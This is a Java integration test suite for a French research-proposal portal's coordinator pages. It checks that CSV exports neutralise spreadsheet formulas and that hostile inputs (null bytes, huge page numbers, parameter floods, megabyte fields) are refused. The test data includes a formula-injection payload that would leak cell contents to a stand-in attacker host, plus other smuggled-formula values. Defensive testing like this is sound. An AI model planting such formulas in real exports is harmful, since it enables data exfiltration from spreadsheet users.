package org.constellation.coordination;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.constellation.PortalClient;
import org.constellation.PostgresIntegrationTest;
import org.constellation.call.Call;
import org.constellation.call.CallForm;
import org.constellation.proposal.Proposal;
import org.constellation.proposal.ProposalSubmission;
import org.constellation.security.StaffAccessSetup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The worst a person can send to the coordinators' pages, from the outside probe's second round: titles that a
 * spreadsheet would run, control characters and huge page numbers in the address, wildcards in a search, more cases
 * than a request carries, a megabyte in a call's field, a territory file with names. Each is answered in words.
 */
class CoordinationInputIT extends PostgresIntegrationTest {

    static final String PASSWORD = "Pulsar-Milliseconde-2026!";

    @LocalServerPort
    int port;

    @Autowired
    JdbcTemplate jdbc;

    @BeforeEach
    void staff() {
        teamMember("coordentree", PASSWORD, StaffAccessSetup.COORDINATORS);
    }

    PortalClient coordinator() throws Exception {
        return PortalClient.signedInToTasklist(port, "10.83.0.1", "coordentree", PASSWORD);
    }

    Proposal submitted(Call call, String title) {
        return proposalService.submit(
                ProposalSubmission.fromFormValues(
                        submission(call, title, "entree-" + call.getId() + "-" + System.nanoTime() + "@example.org")),
                Locale.FRENCH);
    }

    @Test
    void everyCsvCellASpreadsheetWouldRunStaysText() throws Exception {
        Call call = openCall();
        List<String> titles = List.of(
                "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Cliquez\")",
                "+SUM(1;2)",
                "@SUM(1+1)",
                "-2+3",
                "\t=1+1");
        titles.forEach(title -> submitted(call, title));
        String csv = coordinator()
                .get("/coordination/dossiers.csv?appel=" + call.getId())
                .body();
        List<String> read = new ArrayList<>();
        for (CSVRecord row : CSVFormat.EXCEL
                .builder()
                .setDelimiter(';')
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv.substring(1)))) {
            read.add(row.get("Titre"));
        }
        assertThat(read)
                .hasSize(titles.size())
                .allSatisfy(title -> assertThat(title).startsWith("'"))
                .contains("'=1+1", "'-2+3", "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Cliquez\")");
    }

    @Test
    void theAddressIsReadWithinBoundsAndWildcardsAreLetters() throws Exception {
        Call call = openCall();
        submitted(call, "Atelier comètes");
        submitted(call, "Fichier_étoiles 100% ciel");
        PortalClient coordinator = coordinator();
        String cases = "/coordination/dossiers?appel=" + call.getId();
        for (String path : List.of(
                cases + "&q=%00",
                cases + "&etiquette=a%00b",
                cases + "&commune=%01",
                cases + "&page=99999999",
                cases + "&page=2147483647",
                cases + "&page=-1",
                cases + "&page=abc",
                cases + "&page=99999999999",
                "/coordination/courriels?page=2147483647",
                "/coordination/courriels?page=0",
                "/coordination/courriels?q=1&appel=%00",
                cases + "&q=" + "x".repeat(300))) {
            HttpResponse<String> answer = coordinator.get(path);
            assertThat(answer.statusCode()).as(path).isEqualTo(400);
            assertThat(answer.body())
                    .as(path)
                    .containsAnyOf("Filtre refusé", "Page : un numéro", "n’est pas une valeur")
                    .doesNotContain("Exception");
        }
        assertThat(coordinator.get(cases + "&q=_").body()).contains("1 dossier(s)", "Fichier_étoiles");
        assertThat(coordinator.get(cases + "&q=%25").body()).contains("1 dossier(s)", "Fichier_étoiles");
        assertThat(coordinator.get(cases + "&q=%5C").body()).contains("0 dossier(s)");
        assertThat(coordinator.get(cases + "&page=1").statusCode()).isEqualTo(200);

        HttpResponse<String> noSession = new PortalClient(port, "10.83.0.9").get("/suivi/donnees");
        assertThat(noSession.statusCode()).isEqualTo(401);
        assertThat(noSession.body()).contains("lien");
        assertThat(new PortalClient(port, "10.83.0.9")
                        .get("/suivi/donnees.json")
                        .statusCode())
                .isEqualTo(401);
    }

    /** A request past Tomcat's 10,000 parameters, or with a case of another call: nothing is done, in words. */
    @Test
    void aBulkActionIsDoneWholeOrNotAtAll() throws Exception {
        Call call = openCall();
        Call other = openCall();
        Proposal ours = submitted(call, "Nuit des étoiles");
        Proposal theirs = submitted(other, "Nuit d'ailleurs");
        PortalClient coordinator = coordinator();
        List<Map.Entry<String, String>> hidden = PortalClient.hiddenFields(
                coordinator.get("/coordination/dossiers?appel=" + call.getId()).body());
        List<Map.Entry<String, String>> crowd = new ArrayList<>(hidden);
        crowd.addAll(List.of(
                Map.entry("appel", call.getId().toString()),
                Map.entry("action", "LABEL"),
                Map.entry("etiquette", "trop"),
                Map.entry("confirme", "oui")));
        for (int i = 0; i < 10_001; i++) {
            crowd.add(Map.entry("dossier", Long.toString(i == 0 ? ours.getId() : 1_000_000L + i)));
        }
        HttpResponse<String> refused = coordinator.post("/coordination/dossiers/actions", crowd);
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.body())
                .contains("Trop de dossiers choisis d’un coup : rien n’a été fait", "5\u202F000 dossiers au plus");

        List<Map.Entry<String, String>> mixed = new ArrayList<>(hidden);
        mixed.addAll(List.of(
                Map.entry("appel", call.getId().toString()),
                Map.entry("action", "LABEL"),
                Map.entry("etiquette", "mélange"),
                Map.entry("confirme", "oui"),
                Map.entry("dossier", ours.getId().toString()),
                Map.entry("dossier", theirs.getId().toString())));
        HttpResponse<String> partly = coordinator.post("/coordination/dossiers/actions", mixed);
        assertThat(partly.statusCode()).isEqualTo(400);
        assertThat(partly.body()).contains("1 des dossiers choisis ne sont pas de cet appel", "rien n’a été fait");
        assertThat(jdbc.queryForObject(
                        "select count(*) from case_label where proposal_id in (?, ?)",
                        Long.class,
                        ours.getId(),
                        theirs.getId()))
                .isZero();
    }

    /** The probe's worst line (25 s of one core before), near the form's whole megabyte, through the page. */
    @Test
    void aHugeFieldOfTheCallFormIsAnsweredAtOnceInWords() throws Exception {
        Call call = openCall();
        PortalClient coordinator = coordinator();
        String page = "/coordination/appels/" + call.getId();
        Map<String, String> form = new LinkedHashMap<>(CallForm.of(call).values());
        form.values().removeIf(Objects::isNull);
        form.put("themes", "a" + " ".repeat(900_000) + "b");
        List<Map.Entry<String, String>> sent =
                new ArrayList<>(PortalClient.hiddenFields(coordinator.get(page).body()));
        sent.addAll(form.entrySet());
        long start = System.nanoTime();
        HttpResponse<String> answer = coordinator.post(page, sent);
        long millis = (System.nanoTime() - start) / 1_000_000;
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body()).contains("trop long");
        assertThat(millis).as("answered in %d ms", millis).isLessThan(1_000);
    }

    @Test
    void aTerritoryFileWithNamesIsReadAndAPostalCodeIsAskedAbout() throws Exception {
        Call call = openCall();
        PortalClient coordinator = coordinator();
        String page = "/coordination/appels/" + call.getId();
        List<Map.Entry<String, String>> hidden =
                PortalClient.hiddenFields(coordinator.get(page).body());
        HttpResponse<String> names = coordinator.postMultipart(
                page + "/territoire",
                with(hidden, "TERRITORY", "ADD"),
                "file",
                "communes.csv",
                "insee;nom\n38229;Meylan\n38421;Saint-Martin-d'Hères\n");
        assertThat(names.statusCode()).isEqualTo(303);
        assertThat(coordinator.get(page).body())
                .contains("Meylan (38229)", "Saint-Martin-d&#39;Hères (38421)")
                .doesNotContain("introuvables");

        HttpResponse<String> postal = coordinator.postMultipart(
                page + "/territoire", with(hidden, "NEARBY", "ADD"), "file", "cp.csv", "38000\nVoreppe\n");
        assertThat(postal.statusCode()).isEqualTo(303);
        String asked = coordinator.get(page).body();
        assertThat(asked)
                .contains(
                        "À préciser : quelle commune ?",
                        "« 38000 »",
                        "Grenoble — code INSEE 38185",
                        "« Voreppe »",
                        "Voreppe — code INSEE 38565, département 38")
                .contains("value=\"NEARBY\" checked");
        List<Map.Entry<String, String>> picked =
                new ArrayList<>(with(PortalClient.hiddenFields(asked), "NEARBY", "ADD"));
        picked.add(Map.entry("choisies", "38565"));
        assertThat(coordinator
                        .postMultipart(page + "/territoire", picked, "file", "vide.txt", "")
                        .statusCode())
                .isEqualTo(303);
        assertThat(coordinator.get(page).body()).contains("Voreppe (38565)");
    }

    static List<Map.Entry<String, String>> with(List<Map.Entry<String, String>> hidden, String target, String mode) {
        List<Map.Entry<String, String>> form = new ArrayList<>(hidden);
        form.addAll(List.of(
                Map.entry("target", target), Map.entry("mode", mode), Map.entry("epci", ""), Map.entry("codes", "")));
        return form;
    }
}
